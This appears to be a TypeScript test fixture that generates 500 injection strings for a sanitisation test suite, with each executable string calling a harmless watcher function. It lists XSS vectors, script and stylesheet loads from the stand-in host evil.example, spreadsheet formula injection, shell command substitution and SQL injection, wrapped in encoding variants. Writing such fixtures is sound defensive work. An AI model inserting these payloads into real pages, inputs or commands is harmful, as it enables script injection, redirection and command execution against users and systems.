/** payloads: 500 strings that try to become script, markup, a link, a command or another string. Written for this suite: each
 *  that could run calls `holdfastExecuted`, which a test watches. */

/** What runs when it is taken for script; the watcher says that it ran. */
const CALL = "holdfastExecuted(1)";

const MARKUP: readonly string[] = [
  `<script>${CALL}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<body onload=${CALL}>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<a href="javascript:${CALL}">open</a>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<style>@import url(https://evil.example/x.css)</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example><button>go</button></form>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `vbscript:${CALL}`,
  "https://evil.example/?q=1",
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `{"__proto__":{"polluted":1}}`,
  "__proto__",
  "constructor",
  `'; ${CALL}; //`,
  `"-${CALL}-"`,
  `\\");${CALL};//`,
  "=cmd|' /C calc'!A0",
  "$(touch /tmp/x)",
  "`id`",
  "' OR 1=1 --",
  "*) | stats count",
];

const WRAPS: readonly ((text: string, at: number) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}<'`,
  (text) => `</textarea></title></script>${text}`,
  (text) => `<!--${text}-->`,
  (text) => `\u202e${text}\u202c`,
  (text) => `${text}\u0000\u001b[31m\u0007`,
  (text) => `\u200b${text}\ufeff`,
  (text, at) => `${"A".repeat(200 + at)}${text}`,
  (text) => text.replaceAll("<", "&lt;").replaceAll("(", "&#40;"),
  (text) => text.replaceAll("<", "\uff1c"),
  (text) => encodeURIComponent(text),
  (text, at) => `${at}: ${text}`,
  (text) => ` ${text} `,
  (text) => `line one\n${text}\r\nline three\t`,
];

/** Exactly 500, all different; the last one is long. */
export const PAYLOADS: readonly string[] = [
  ...new Set(WRAPS.flatMap((wrap) => MARKUP.map((text, at) => wrap(text, at)))),
]
  .slice(0, 499)
  .concat("B".repeat(10_000));
